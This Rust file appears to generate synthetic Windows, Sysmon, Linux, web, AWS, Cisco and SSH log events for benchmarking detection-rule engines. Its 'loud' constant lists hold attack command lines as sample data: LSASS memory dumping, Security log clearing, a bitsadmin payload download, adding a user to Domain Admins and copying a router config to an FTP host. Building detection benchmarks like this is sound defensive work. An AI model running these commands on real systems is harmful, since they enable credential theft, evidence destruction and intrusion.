//! Events that a bench makes up: the same on every machine, of the shapes that forwarders send.
//!
//! Every event names its product, category and service itself, so that engines which take what is
//! not named for "any" and engines that take it for "none" run the same rules.

use serde_json::{Value, json};

use crate::seeded::Seeded;

impl Seeded {
    pub fn pick<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.below(of.len() as u64) as usize]
    }

    fn hex(&mut self, digits: usize) -> String {
        (0..digits).map(|_| self.pick(&DIGITS)).collect()
    }

    fn guid(&mut self) -> String {
        [8, 4, 4, 4, 12].map(|digits| self.hex(digits)).join("-")
    }

    /// A time of day, to the millisecond.
    fn clock(&mut self) -> String {
        let (h, m, s, ms) = (self.below(24), self.below(60), self.below(60), self.below(1000));
        format!("{h:02}:{m:02}:{s:02}.{ms:03}")
    }
}

const DIGITS: [char; 16] =
    ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', 'a', 'b', 'c', 'd', 'e', 'f'];

/// Makes the n-th event of a lane.
pub type Maker = fn(&mut Seeded, usize) -> Value;

/// What RSigma's own generator makes, by the names it gives: the same shapes, sizes and shares of
/// suspicious events, with values of our own.
pub const RSIGMA_LANES: [(&str, usize, u64, Maker); 8] = [
    ("raw_windows", LIGHT_EVENTS, 1, |r, _| raw_windows(r, 10)),
    ("structured_windows", EVENTS, 2, |r, _| process(r, 2)),
    ("mixed_schema", LIGHT_EVENTS, 3, mixed),
    ("no_match", LIGHT_EVENTS, 4, |r, _| nothing_known(r)),
    ("low_match", EVENTS, 5, |r, _| process(r, 1)),
    ("match_heavy", EVENTS, 6, |r, _| process(r, 80)),
    ("cisco_syslog", LIGHT_EVENTS, 7, |r, _| cisco(r, 10)),
    ("sysmon_file_event", LIGHT_EVENTS, 8, |r, _| file_created(r, 5)),
];

/// Events of a lane; of light ones more, since a run of a fifth of a second says little.
const EVENTS: usize = 400_000;
const LIGHT_EVENTS: usize = 3 * EVENTS;

const QUIET_COMMANDS: [&str; 8] = [
    r"C:\Windows\System32\taskhostw.exe SYSTEM",
    r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    r#""C:\Program Files\Slack\slack.exe" --type=gpu-process --field-trial-handle=1792"#,
    r"C:\Windows\System32\backgroundTaskHost.exe -ServerName:App.AppXtk181",
    r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /dde"#,
    r"C:\Windows\System32\sihost.exe",
    r"C:\Windows\System32\audiodg.exe 0x4f8 0x4fc",
    r"C:\Windows\System32\ctfmon.exe",
];

const LOUD_COMMANDS: [&str; 10] = [
    r"powershell -NoProfile -WindowStyle Hidden -EncodedCommand JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
    r"certutil -decode C:\Users\Public\a.txt C:\Users\Public\a.exe",
    r"whoami /groups",
    r"wevtutil cl Security",
    r"bcdedit /set {default} recoveryenabled no",
    r"bitsadmin /transfer job /download /priority high http://192.0.2.8/x.exe C:\Users\Public\x.exe",
    r"procdump.exe -accepteula -ma lsass.exe C:\Temp\out.dmp",
    r#"net group "Domain Admins" mallory /add /domain"#,
    r"vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=401MB",
];

const PARENTS: [&str; 5] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
];

const USERS: [&str; 5] = [
    r"NT AUTHORITY\SYSTEM",
    r"EXAMPLE\grace",
    r"EXAMPLE\henry",
    r"EXAMPLE\svc-sql",
    r"NT AUTHORITY\LOCAL SERVICE",
];

const HOSTS: [&str; 5] = ["pc-0017", "pc-0231", "files-02", "dc-01", "note-114"];

fn command(r: &mut Seeded, loud: u64) -> &'static str {
    if r.percent(loud) { r.pick(&LOUD_COMMANDS) } else { r.pick(&QUIET_COMMANDS) }
}

/// The program of a command line, with a folder.
fn program(command: &str) -> String {
    let first = match command.strip_prefix('"') {
        Some(rest) => rest.split('"').next().unwrap_or_default(),
        None => command.split(' ').next().unwrap_or_default(),
    };
    match (first.contains('\\'), first.ends_with(".exe")) {
        (true, _) => first.to_owned(),
        (false, true) => format!(r"C:\Windows\System32\{first}"),
        (false, false) => format!(r"C:\Windows\System32\{first}.exe"),
    }
}

/// A new process (4688) as one line of text in `message`, as syslog agents of Windows write it.
fn raw_windows(r: &mut Seeded, loud: u64) -> Value {
    let (host, user, command) = (r.pick(&HOSTS), r.pick(&USERS), command(r, loud));
    let (image, parent, time) = (program(command), r.pick(&PARENTS), r.clock());
    let (process, creator, logon) = (r.hex(4), r.hex(4), r.hex(6));
    let number = 1_000_000 + r.below(9_000_000);
    let message = format!(
        "<13>Mar 02 {time} {host} AgentLog\t1\tSecurity\t{number}\tMon Mar 02 {time} 2026\t4688\t\
         Microsoft-Windows-Security-Auditing\t{user}\tN/A\tSuccess Audit\t{host}\tProcess Creation\t\t\
         A new process has been created.  Creator Subject:  Security ID:  {user}  Account Name:  \
         {host}$  Account Domain:  EXAMPLE  Logon ID:  0x{logon}  Target Subject:  Security ID:  \
         NULL SID  Account Name:  -  Account Domain:  -  Logon ID:  0x0  Process Information:  New \
         Process ID:  0x{process}  New Process Name:  {image}  Token Elevation Type:  %%1938  \
         Mandatory Label:  Mandatory Label\\Medium Mandatory Level  Creator Process ID:  \
         0x{creator}  Creator Process Name:  {parent}  Process Command Line:  {command}\t{number}"
    );
    json!({
        "message": message,
        "product": "windows", "category": "process_creation", "service": "security",
    })
}

/// A new process as Sysmon tells it (event 1).
pub fn process(r: &mut Seeded, loud: u64) -> Value {
    let command = command(r, loud);
    let image = program(command);
    json!({
        "EventID": 1,
        "UtcTime": format!("2026-03-02 {}", r.clock()),
        "Computer": r.pick(&HOSTS),
        "OriginalFileName": image.rsplit('\\').next().unwrap_or_default(),
        "Image": image,
        "CommandLine": command,
        "CurrentDirectory": r"C:\Windows\system32\",
        "ParentImage": r.pick(&PARENTS),
        "ParentCommandLine": r.pick(&QUIET_COMMANDS),
        "User": r.pick(&USERS),
        "IntegrityLevel": r.pick(&["Low", "Medium", "High", "System"]),
        "LogonId": format!("0x{}", r.hex(5)),
        "ProcessId": 400 + r.below(60_000),
        "ParentProcessId": 400 + r.below(60_000),
        "ProcessGuid": r.guid(),
        "Hashes": format!("SHA256={}", r.hex(64).to_uppercase()),
        "product": "windows", "category": "process_creation", "service": "sysmon",
    })
}

/// Four kinds of logs in turn.
fn mixed(r: &mut Seeded, n: usize) -> Value {
    match n % 4 {
        0 => process(r, 2),
        1 => json!({
            "type": "SYSCALL",
            "syscall": r.pick(&["59", "257", "41"]),
            "exe": r.pick(&["/usr/bin/dash", "/usr/bin/wget", "/usr/sbin/cron", "/usr/bin/perl"]),
            "comm": r.pick(&["sh", "wget", "cron", "perl"]),
            "uid": r.below(3000).to_string(),
            "auid": (1000 + r.below(1000)).to_string(),
            "tty": r.pick(&["pts1", "(none)"]),
            "key": r.pick(&["exec", "net", "(null)"]),
            "product": "linux", "category": "audit", "service": "auditd",
        }),
        2 => json!({
            "c-ip": format!("192.0.2.{}", 1 + r.below(254)),
            "cs-method": r.pick(&["GET", "POST", "OPTIONS"]),
            "cs-uri-query": r.pick(&["/", "/cart?item=7", "/sign-in", "/assets/site.css", "/ping"]),
            "sc-status": r.pick(&[200, 200, 204, 302, 403, 502]),
            "cs-user-agent": r.pick(&["Mozilla/5.0 (X11; Linux x86_64)", "Wget/1.21", "okhttp/4.9"]),
            "product": "nginx", "category": "webserver", "service": "access",
        }),
        _ => json!({
            "eventSource": r.pick(&["sts.amazonaws.com", "iam.amazonaws.com", "s3.amazonaws.com"]),
            "eventName": r.pick(&["AssumeRole", "ListBuckets", "CreateAccessKey", "HeadObject"]),
            "awsRegion": r.pick(&["eu-central-1", "us-west-2"]),
            "sourceIPAddress": format!("203.0.113.{}", 1 + r.below(254)),
            "userIdentity": {"type": "IAMUser", "userName": r.pick(&["build", "grace", "audit"])},
            "product": "aws", "category": "audit", "service": "cloudtrail",
        }),
    }
}

/// Random text in fields that no rule asks for.
fn nothing_known(r: &mut Seeded) -> Value {
    let mut event = json!({"product": "made_up", "category": "made_up", "service": "made_up"});
    for n in 0..8 {
        event[format!("v{n}")] = r.hex(24).into();
    }
    event
}

const QUIET_ROUTER: [&str; 8] = [
    "show clock",
    "show ip route 10.8.0.0",
    "show interfaces counters",
    "ping 198.51.100.20",
    "show inventory",
    "show lldp neighbors",
    "terminal length 0",
    "show ntp status",
];

const LOUD_ROUTER: [&str; 8] = [
    "monitor capture point ip process-switched cap2 both",
    "show running-config all",
    "copy startup-config ftp://192.0.2.77/s.cfg",
    "clear archive",
    "crypto pki import router-ca terminal",
    "no aaa accounting exec default",
    "show ip arp",
    "set span 1/1 1/2 both",
];

/// A command on a router, as accounting sends it: a line of text in `message`.
fn cisco(r: &mut Seeded, loud: u64) -> Value {
    let command = if r.percent(loud) { r.pick(&LOUD_ROUTER) } else { r.pick(&QUIET_ROUTER) };
    let host = r.pick(&["gw-1", "gw-2", "core-3", "edge-9", "lab-sw4"]);
    let user = r.pick(&["netops", "grace", "rancid", "oncall", "review"]);
    let message = format!(
        "<189>Mar {} {} {host} %AAA-5-USER_LOGGED: User {user} executed: {command}",
        1 + r.below(28),
        &r.clock()[..8]
    );
    json!({"message": message, "product": "cisco", "category": "accounting", "service": "aaa"})
}

const QUIET_FILES: [&str; 6] = [
    r"C:\Users\grace\Documents\budget-2026.xlsx",
    r"C:\Users\grace\Downloads\minutes.pdf",
    r"C:\Users\grace\AppData\Local\Temp\setup-3412.log",
    r"C:\ProgramData\Microsoft\Search\Data\Applications\Windows\edb.log",
    r"C:\Users\grace\AppData\Local\Packages\App_8wekyb\LocalState\state.db",
    r"C:\Windows\Logs\CBS\CBS.log",
];

const LOUD_FILES: [&str; 5] = [
    r"C:\Users\grace\Downloads\scan.pdf.scr",
    r"C:\Users\Public\svc.exe",
    r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\run.bat",
    r"C:\Windows\System32\wbem\evil.dll",
    r"C:\Temp\lsass.dmp",
];

/// A file was created, as Sysmon tells it (event 11), its number a text.
fn file_created(r: &mut Seeded, loud: u64) -> Value {
    let target = if r.percent(loud) { r.pick(&LOUD_FILES) } else { r.pick(&QUIET_FILES) };
    json!({
        "EventID": "11",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": r.pick(&HOSTS),
        "Image": r.pick(&PARENTS),
        "TargetFilename": target,
        "CreationUtcTime": format!("2026-03-02 {}", r.clock()),
        "ProcessGuid": r.guid(),
        "ProcessId": 400 + r.below(60_000),
        "User": r.pick(&USERS),
        "product": "windows", "category": "file_event", "service": "sysmon",
    })
}

/// A login on one of many servers, one in a hundred failed.
pub fn login(r: &mut Seeded, n: usize) -> Value {
    let (second, ms) = (n / 500 % 3600, r.below(1000));
    let (user, host, pid) = (r.below(100_000), r.below(200), r.below(30_000));
    let (net, address) = (r.below(80), 1 + r.below(250));
    let (source, port) = (format!("10.20.{net}.{address}"), 1024 + r.below(64_000));
    let failed = r.percent(1);
    let verb = if failed { "Failed password" } else { "Accepted publickey" };
    json!({
        "timestamp": format!("2026-01-01T00:{:02}:{:02}.{ms:03}Z", second / 60, second % 60),
        "host": format!("host-{host:03}"),
        "product": "linux",
        "service": "sshd",
        "pid": pid,
        "user": format!("u{user:06}"),
        "src_ip": source,
        "src_port": port,
        "outcome": if failed { "failure" } else { "success" },
        "message": format!("{verb} for u{user:06} from {source} port {port} ssh2"),
    })
}
